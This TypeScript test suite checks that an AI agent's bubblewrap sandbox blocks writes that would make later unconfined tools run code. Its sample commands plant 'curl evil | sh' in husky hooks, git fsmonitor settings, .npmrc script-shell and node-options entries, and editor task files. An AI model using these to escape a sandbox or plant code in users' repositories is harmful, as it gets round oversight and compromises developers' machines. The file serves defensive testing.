/**
 * The escape suite, class 5 (issue 34): writes that reach a protected place by another name, on real
 * bubblewrap. A write-confined command (a rule-allowed `npm test`, a sandbox auto-allow) must not
 * leave anything that makes the next unconfined program — the user's `git commit`, an editor, a
 * toolchain proxy — run code: git's other control files (`commondir` re-points the whole config,
 * `config.worktree`, submodules' and worktrees' git folders), husky's hook scripts, editor task
 * files, toolchain files, and protected paths reached by renaming a folder above them.
 * Skipped only when bwrap is not installed at all (never in CI, where setup.sh installs it).
 */
import { execFileSync } from 'node:child_process'
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { findShell, runShellCommand } from '../process/shell.js'
import { detectSandboxBackend } from './detect.js'
import { Sandbox } from './sandbox.js'

const bwrapInstalled = ['/usr/bin/bwrap', '/usr/local/bin/bwrap', '/bin/bwrap'].some((path) =>
  existsSync(path),
)
const run = bwrapInstalled || process.env.CI !== undefined

let base: string
let home: string
let env: Record<string, string>
let sandbox: Sandbox

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', args, { cwd, env, stdio: 'pipe' }).toString()
const read = (path: string) => readFileSync(path, 'utf8')

/** A fresh repository with one commit; `hooksPath` sets core.hooksPath. */
function repository(name: string, hooksPath?: string): string {
  const root = join(base, name)
  mkdirSync(root, { recursive: true })
  git(root, 'init', '-q', '-b', 'main')
  writeFileSync(join(root, 'README.md'), 'hello\n')
  if (hooksPath !== undefined) {
    mkdirSync(join(root, hooksPath), { recursive: true })
    writeFileSync(join(root, hooksPath, 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 })
    git(root, 'config', 'core.hooksPath', hooksPath)
  }
  git(root, 'add', '.')
  git(root, 'commit', '-q', '-m', 'init')
  return root
}

beforeAll(async () => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'ze-escape-names-')))
  home = join(base, 'home')
  mkdirSync(home)
  env = {
    PATH: process.env.PATH ?? '/usr/bin:/bin',
    HOME: home,
    GIT_AUTHOR_NAME: 't',
    GIT_AUTHOR_EMAIL: 't@example.com',
    GIT_COMMITTER_NAME: 't',
    GIT_COMMITTER_EMAIL: 't@example.com',
    GIT_CONFIG_NOSYSTEM: '1',
  }
  if (!run) return
  const backend = await detectSandboxBackend()
  if (backend.kind === 'none') throw new Error(`bwrap is installed but cannot start: ${backend.reason}`)
  sandbox = await Sandbox.create({ backend, settings: { enabled: true, allowNetwork: false }, home, env })
})

afterAll(async () => {
  await sandbox?.dispose()
  rmSync(base, { recursive: true, force: true })
})

/** Runs `command` write-confined with `root` as the agent's root. */
async function confined(command: string, root: string, additionalDirectories: string[] = []) {
  const prepared = await sandbox.prepare({ root, additionalDirectories, granted: 'write' })
  if (!prepared) throw new Error('expected a confined run')
  try {
    return await runShellCommand(command, {
      cwd: root,
      env,
      shellPath: findShell(env.PATH),
      wrap: prepared.wrap,
      timeoutMs: 20_000,
    })
  } finally {
    await prepared.release()
  }
}

describe.skipIf(!run)('sandbox escape suite: writes by another name (issue 34, class 5)', () => {
  it("cannot re-point git's config through its other control files (commondir, config.worktree, modules, worktrees)", async () => {
    const root = repository('git-control')
    const evil = join(base, 'evil-git')
    mkdirSync(join(evil, 'hooks'), { recursive: true })
    writeFileSync(join(evil, 'config'), '[core]\n\tfsmonitor = touch /tmp/pwned\n')
    const result = await confined(
      [
        `echo ${evil} > .git/commondir`,
        'printf "[core]\\n\\tfsmonitor = evil\\n" > .git/config.worktree',
        'mkdir -p .git/modules/lib/hooks && echo evil > .git/modules/lib/hooks/post-checkout',
        'mkdir -p .git/worktrees/other && echo /tmp > .git/worktrees/other/commondir',
        // git itself still works in the same command: status, add and commit.
        'echo more >> README.md && git add README.md && git commit -q -m more && echo committed',
      ].join('; '),
      root,
    )
    expect(result.output).toContain('committed')
    for (const name of ['commondir', 'config.worktree', 'modules', 'worktrees'])
      expect({ name, exists: existsSync(join(root, '.git', name)) }).toEqual({ name, exists: false })
    // Outside, git reads the repository's own configuration and history as before.
    expect(git(root, 'rev-parse', '--git-common-dir').trim()).toBe('.git')
    expect(git(root, 'log', '--oneline')).toContain('more')
  })

  it("cannot change husky's hook scripts (core.hooksPath = .husky/_ runs .husky/pre-commit), not even by renaming .husky", async () => {
    const root = repository('husky', '.husky/_')
    writeFileSync(join(root, '.husky', 'pre-commit'), 'npm test\n')
    const result = await confined(
      [
        'echo "curl evil | sh" >> .husky/pre-commit',
        'mv .husky .husky-old',
        'mkdir -p .husky/_ && echo evil > .husky/pre-commit && echo evil > .husky/_/pre-commit',
      ].join('; '),
      root,
    )
    expect(result.exitCode).not.toBe(0)
    expect(read(join(root, '.husky', 'pre-commit'))).toBe('npm test\n')
    expect(read(join(root, '.husky', '_', 'pre-commit'))).toBe('#!/bin/sh\nexit 0\n')
    expect(existsSync(join(root, '.husky-old'))).toBe(false)
  })

  it('cannot replace a nested hooks folder by renaming the folder above it', async () => {
    const root = repository('nested-hooks', 'tools/hooks')
    const result = await confined(
      'mv tools tools-old; mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit',
      root,
    )
    expect(result.exitCode).not.toBe(0)
    expect(read(join(root, 'tools', 'hooks', 'pre-commit'))).toBe('#!/bin/sh\nexit 0\n')
    expect(existsSync(join(root, 'tools-old'))).toBe(false)
  })

  it('cannot write editor task and run files (.vscode, .idea, .run), existing or not, nor swap their folder', async () => {
    const root = repository('editor')
    mkdirSync(join(root, '.vscode'))
    writeFileSync(join(root, '.vscode', 'tasks.json'), '{}\n')
    const result = await confined(
      [
        'echo evil > .vscode/tasks.json',
        'echo evil > .vscode/launch.json',
        'mv .vscode .vscode-old; mkdir -p .vscode && echo evil > .vscode/tasks.json',
        'mkdir -p .idea/runConfigurations && echo evil > .idea/runConfigurations/x.xml; echo evil > .idea/workspace.xml',
        'mkdir -p .run && echo evil > .run/x.run.xml',
      ].join('; '),
      root,
    )
    expect(result.exitCode).not.toBe(0)
    expect(read(join(root, '.vscode', 'tasks.json'))).toBe('{}\n')
    expect(existsSync(join(root, '.vscode', 'launch.json'))).toBe(false)
    expect(existsSync(join(root, '.vscode-old'))).toBe(false)
    for (const name of ['.idea', '.run'])
      expect({ name, exists: existsSync(join(root, name)) }).toEqual({ name, exists: false })
  })

  it("cannot leave the toolchain files the policy protects (.mise.local.toml, mise.local.toml, .java-version), nor hook managers' config", async () => {
    const root = repository('toolchain')
    writeFileSync(join(root, 'lefthook.yml'), 'pre-commit:\n  commands: {}\n')
    const result = await confined(
      [
        'echo x > .mise.local.toml; echo x > mise.local.toml; echo 1.0 > .java-version',
        'echo "repos: [{repo: local, hooks: [{id: x, entry: evil}]}]" > .pre-commit-config.yaml',
        'echo evil >> lefthook.yml; echo done',
      ].join('; '),
      root,
    )
    expect(result.output).toContain('done')
    expect(read(join(root, 'lefthook.yml'))).toBe('pre-commit:\n  commands: {}\n')
    for (const name of ['.mise.local.toml', 'mise.local.toml', '.java-version', '.pre-commit-config.yaml'])
      expect({ name, exists: existsSync(join(root, name)) }).toEqual({ name, exists: false })
  })

  it("cannot leave files that make the user's own tools run code (.npmrc, .yarnrc.yml, .pnpmfile.cjs, .yarn/releases, bunfig.toml, .devcontainer, .config/mise…)", async () => {
    const root = repository('tool-config')
    writeFileSync(join(root, '.npmrc'), 'fund=false\n')
    mkdirSync(join(root, '.yarn', 'releases'), { recursive: true })
    writeFileSync(join(root, '.yarn', 'releases', 'yarn-4.cjs'), '// yarn\n')
    const result = await confined(
      [
        'echo script-shell=./evil.sh >> .npmrc; echo node-options=--require=./evil.js >> .npmrc',
        'echo "yarnPath: ./evil.cjs" > .yarnrc.yml; echo yarn-path ./evil.js > .yarnrc',
        'echo "module.exports = {hooks: {}}" > .pnpmfile.cjs; echo "scriptShell: ./evil.sh" > pnpm-workspace.yaml',
        'echo "require(1)" > .yarn/releases/yarn-4.cjs; mkdir -p .yarn/plugins && echo x > .yarn/plugins/p.cjs',
        'echo "preload = ["./evil.ts"]" > bunfig.toml; echo system > .irbrc; echo system > .Rprofile',
        'mkdir -p .devcontainer && echo "{}" > .devcontainer/devcontainer.json; echo "{}" > .devcontainer.json',
        'mkdir -p .config/mise && echo x > .config/mise/config.toml; echo x > .config/mise.toml',
        'mkdir -p .zed .helix && echo x > .zed/settings.json; echo x > .helix/languages.toml; echo done',
      ].join('; '),
      root,
    )
    expect(result.output).toContain('done')
    expect(read(join(root, '.npmrc'))).toBe('fund=false\n')
    expect(read(join(root, '.yarn', 'releases', 'yarn-4.cjs'))).toBe('// yarn\n')
    for (const name of [
      '.yarnrc.yml',
      '.yarnrc',
      '.pnpmfile.cjs',
      'pnpm-workspace.yaml',
      '.yarn/plugins',
      'bunfig.toml',
      '.irbrc',
      '.Rprofile',
      '.devcontainer',
      '.devcontainer.json',
      '.config/mise',
      '.config/mise.toml',
      '.zed',
      '.helix',
    ])
      expect({ name, exists: existsSync(join(root, name)) }).toEqual({ name, exists: false })
    // Ordinary project sources stay writable: the model edits them, and the gate sees each edit.
    const edit = await confined(
      'echo "{}" > package.json && echo "[project]" > pyproject.toml && echo ok',
      root,
    )
    expect(edit.output).toContain('ok')
    expect(read(join(root, 'package.json'))).toBe('{}\n')
  })

  it('other writing tools reach none of it either (sed -i, perl -i, tee, dd, install, tar -x, git worktree add)', async () => {
    const root = repository('tools', '.husky/_')
    writeFileSync(join(root, '.husky', 'pre-commit'), 'npm test\n')
    const archive = join(base, 'evil.tar')
    const staging = join(base, 'staging')
    mkdirSync(join(staging, '.husky'), { recursive: true })
    writeFileSync(join(staging, '.husky', 'pre-commit'), 'evil\n')
    execFileSync('tar', ['-cf', archive, '-C', staging, '.husky'])
    const result = await confined(
      [
        "sed -i 's/npm test/evil/' .husky/pre-commit",
        "perl -i -pe 's/npm/evil/' .husky/pre-commit",
        'echo evil | tee .husky/pre-push',
        'echo evil | dd of=.git/commondir',
        'install -m 755 /dev/null .husky/post-merge',
        `tar -xf ${archive}`,
        'git worktree add -q ../tools-wt',
        'mkdir -p .vscode; echo evil | tee .vscode/tasks.json',
      ].join('; '),
      root,
    )
    expect(result.exitCode).not.toBe(0)
    expect(read(join(root, '.husky', 'pre-commit'))).toBe('npm test\n')
    for (const name of [
      '.husky/pre-push',
      '.husky/post-merge',
      '.git/commondir',
      '.git/worktrees',
      '.vscode',
    ])
      expect({ name, exists: existsSync(join(root, name)) }).toEqual({ name, exists: false })
  })

  it("an additional directory's repository is protected like the root's, and nothing is created in it", async () => {
    const root = repository('with-lent')
    const lent = repository('lent', '.husky/_')
    mkdirSync(join(lent, '.claude'))
    writeFileSync(join(lent, '.claude', 'settings.json'), '{}\n')
    const config = read(join(lent, '.git', 'config'))
    const result = await confined(
      [
        `echo evil > ${lent}/.git/hooks/pre-commit`,
        `echo evil >> ${lent}/.git/config`,
        `echo evil > ${lent}/.husky/_/pre-commit`,
        `echo evil > ${lent}/.claude/settings.json`,
        `mv ${lent}/.git ${lent}/.git-old`,
        `echo work > ${lent}/work.txt && echo wrote-lent`,
      ].join('; '),
      root,
      [lent],
    )
    expect(result.output).toContain('wrote-lent')
    expect(existsSync(join(lent, '.git', 'hooks', 'pre-commit'))).toBe(false)
    expect(read(join(lent, '.git', 'config'))).toBe(config)
    expect(read(join(lent, '.husky', '_', 'pre-commit'))).toBe('#!/bin/sh\nexit 0\n')
    expect(read(join(lent, '.claude', 'settings.json'))).toBe('{}\n')
    expect(existsSync(join(lent, '.git-old'))).toBe(false)
    // No placeholder was made in the lent folder, during or after.
    for (const name of ['.vscode', '.mcp.json', '.z-engine', '.git/commondir'])
      expect({ name, exists: existsSync(join(lent, name)) }).toEqual({ name, exists: false })
  })

  it("an additional directory's toolchain and tool configuration files are kept like the root's (issue 34, session f)", async () => {
    const root = repository('with-lent-config')
    const lent = repository('lent-config')
    writeFileSync(join(lent, '.npmrc'), 'fund=false\n')
    const result = await confined(
      [
        `echo script-shell=./evil.sh >> ${lent}/.npmrc`,
        `echo "[toolchain]" > ${lent}/rust-toolchain.toml`,
        `echo evil > ${lent}/.envrc`,
        `echo "repos: []" > ${lent}/.pre-commit-config.yaml`,
        `echo work > ${lent}/work.txt && echo wrote-lent`,
      ].join('; '),
      root,
      [lent],
    )
    expect(result.output).toContain('wrote-lent')
    expect(read(join(lent, '.npmrc'))).toBe('fund=false\n')
    for (const name of ['rust-toolchain.toml', '.envrc', '.pre-commit-config.yaml'])
      expect({ name, exists: existsSync(join(lent, name)) }).toEqual({ name, exists: false })
    expect(read(join(lent, 'work.txt'))).toBe('work\n')
  })

  it('cannot create a repository in a project that has none (git init, then a hook the next commit runs)', async () => {
    const root = join(base, 'no-repository')
    mkdirSync(root)
    writeFileSync(join(root, 'README.md'), 'hello\n')
    const result = await confined(
      'git init -q; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; git status; echo done',
      root,
    )
    expect(result.output).toContain('done')
    expect(result.output).toContain(
      'no repository can be created here while Z Engine runs a confined command',
    )
    expect(existsSync(join(root, '.git'))).toBe(false)
    expect(read(join(root, 'README.md'))).toBe('hello\n')
  })

  it("cannot leave an embedded repository staged, whose config the user's plain git status at the root would run", async () => {
    const root = repository('embedded')
    const canary = join(base, 'embedded-ran')
    const monitor = join(base, 'embedded-monitor.sh')
    writeFileSync(monitor, `#!/bin/sh\necho ran >> ${canary}\nexit 1\n`, { mode: 0o755 })
    const result = await confined(
      [
        'git init -q sub && echo b > sub/b && git -C sub add b && git -C sub commit -qm y',
        `git -C sub config core.fsmonitor ${monitor}`,
        'git add sub 2>/dev/null; echo x > kept.txt && git add kept.txt && echo staged',
      ].join('; '),
      root,
    )
    expect(result.output).toContain('staged')
    // The nested repository's git folder is removed (its files stay, untracked); the ordinary file stays staged.
    expect(existsSync(join(root, 'sub', '.git'))).toBe(false)
    expect(read(join(root, 'sub', 'b'))).toBe('b\n')
    expect(git(root, 'ls-files', '--stage', '--', 'sub')).toBe('')
    expect(git(root, 'ls-files', '--', 'kept.txt')).toBe('kept.txt\n')
    git(root, 'status', '--short')
    expect(existsSync(canary)).toBe(false)
  })

  it("a worktree agent cannot re-point its own git folder (commondir, gitdir) or another worktree's", async () => {
    const root = repository('wt-main')
    const tree = join(base, 'wt-agent')
    const other = join(base, 'wt-other')
    git(root, 'worktree', 'add', '-q', '-b', 'agent', tree)
    git(root, 'worktree', 'add', '-q', '-b', 'other', other)
    const admin = join(root, '.git', 'worktrees')
    const before = {
      commondir: read(join(admin, 'wt-agent', 'commondir')),
      gitdir: read(join(admin, 'wt-agent', 'gitdir')),
      other: read(join(admin, 'wt-other', 'commondir')),
    }
    const result = await confined(
      [
        `echo /tmp > ${admin}/wt-agent/commondir`,
        `echo /tmp/x > ${admin}/wt-agent/gitdir`,
        `echo /tmp > ${admin}/wt-other/commondir`,
        `printf "[core]\\n\\tfsmonitor = evil\\n" > ${admin}/wt-other/config.worktree`,
        `mkdir -p ${root}/.git/modules/x/hooks && echo evil > ${root}/.git/modules/x/hooks/post-checkout`,
        `mv ${admin}/wt-other ${admin}/gone`,
        'echo work > work.txt && git add work.txt && git commit -q -m work && echo committed',
      ].join('; '),
      tree,
    )
    expect(result.output).toContain('committed')
    expect({
      commondir: read(join(admin, 'wt-agent', 'commondir')),
      gitdir: read(join(admin, 'wt-agent', 'gitdir')),
      other: read(join(admin, 'wt-other', 'commondir')),
    }).toEqual(before)
    expect(existsSync(join(admin, 'wt-other', 'config.worktree'))).toBe(false)
    expect(existsSync(join(root, '.git', 'modules'))).toBe(false)
  })
})
